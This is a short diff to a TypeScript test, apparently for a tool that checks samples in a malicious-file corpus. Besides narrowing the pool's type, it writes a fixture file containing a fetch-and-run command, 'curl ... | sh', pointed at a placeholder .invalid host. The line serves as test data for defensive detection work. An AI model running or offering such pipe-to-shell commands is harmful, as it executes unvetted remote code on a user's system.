@@ -33,12 +33,11 @@ test('samples are judged under names that say nothing, with links and modes, wit
     put('malicious/family/pasted/command.txt', 'curl https://a.invalid | sh\n')
     put('malicious/family/archive/a.zip', 'PK')
     const tasks: CheckTask[] = []
-    const pool: CheckPool = {
+    const pool: Pick<CheckPool, 'run'> = {
       run: async (task) => {
         tasks.push(task)
         return { line: { path: task.name, error: { code: 'E_UNRECOGNISED', message: '' } } }
       },
-      close: async () => {},
     }
     const samples = readCorpus(corpus)
     const out = join(folder, 'out')
